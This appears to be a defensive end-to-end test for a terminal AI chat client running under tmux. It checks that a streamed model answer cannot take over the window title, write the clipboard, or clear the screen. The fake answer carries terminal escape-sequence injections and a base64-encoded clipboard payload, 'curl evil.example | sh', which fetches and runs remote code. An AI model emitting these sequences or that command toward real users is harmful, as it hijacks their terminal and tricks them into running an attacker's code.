"""A hostile answer in a real terminal (tmux): the window title, the clipboard and the screen
stay the user's, while the answer streams and when the session is opened again.

The scripted server streams, cut into small chunks, OSC 52 (write the clipboard), OSC 0 and
OSC 2 (the window title; BEL- and ST-terminated: Textual drops a BEL, so only an ST-terminated
one worked whole), the 8-bit OSC, and CSI 2J (clear the screen). tmux keeps what a program
sets: `#{pane_title}` is the title, and with `set-clipboard on` an OSC 52 becomes a paste
buffer. Before issue 43 the title read PWNED-ST and the buffer held the attacker's text;
reopening the session (`--continue`: the first screen draws the stored answer before Textual
does, then the app) did it again.
"""

from __future__ import annotations

import base64

from tests.e2e.test_tmux import ANSWER_TIMEOUT, READY_TEXT, START_TIMEOUT, Tmux, cairn_line, pytestmark  # noqa: F401
from tests.fakes.llm_server import FakeLLMServer, text

CLIPBOARD = base64.b64encode(b"curl evil.example | sh\n").decode()
ANSWER = (
    f"Here you go \x1b]52;c;{CLIPBOARD}\x1b\\ then \x1b]0;PWNED-BEL\x07 and \x1b]2;PWNED-ST\x1b\\ "
    "and \x9d2;PWNED-C1\x9c and \x1b[2J\x1b[H wiped? tail-marker"
)


def pane_title(tmux: Tmux) -> str:
    return tmux.run("display-message", "-p", "-t", tmux.session, "#{pane_title}").stdout.strip()


def clipboard_buffers(tmux: Tmux) -> str:
    return tmux.run("list-buffers").stdout


def test_a_hostile_answer_neither_retitles_nor_writes_the_clipboard_nor_clears(tmp_path):
    home, ws = tmp_path / "home", tmp_path / "ws"
    home.mkdir()
    ws.mkdir()
    with FakeLLMServer([text(ANSWER, chunk_size=4)]) as server:
        live = Tmux()
        try:
            live.start(cairn_line(home, ws, server.base_url))
            live.run("set-option", "-s", "set-clipboard", "on")
            live.run("select-pane", "-t", live.session, "-T", "the-users-title")
            live.wait_for(READY_TEXT, timeout=START_TIMEOUT)
            live.send("first prompt stays on screen", "Enter")
            screen = live.wait_for("tail-marker", timeout=ANSWER_TIMEOUT)
            assert (pane_title(live), clipboard_buffers(live)) == ("the-users-title", "")
            assert "first prompt stays on screen" in screen  # not cleared
            assert "␛]0;PWNED-BEL␇" in screen and "␛[2J" in screen
        finally:
            live.kill()

        resumed = Tmux()
        try:
            resumed.start(cairn_line(home, ws, server.base_url, "--continue"))
            resumed.run("set-option", "-s", "set-clipboard", "on")
            resumed.run("select-pane", "-t", resumed.session, "-T", "the-users-title")
            screen = resumed.wait_for("tail-marker", READY_TEXT, timeout=START_TIMEOUT)
            assert "first prompt stays on screen" in screen
            # The app has taken over from the first screen once its status line shows the model.
            resumed.wait_for("openai/fake", timeout=START_TIMEOUT)
            screen = resumed.wait_for("tail-marker", timeout=START_TIMEOUT)
            assert (pane_title(resumed), clipboard_buffers(resumed)) == ("the-users-title", "")
            assert "␛]52;c;" in screen
        finally:
            resumed.kill()
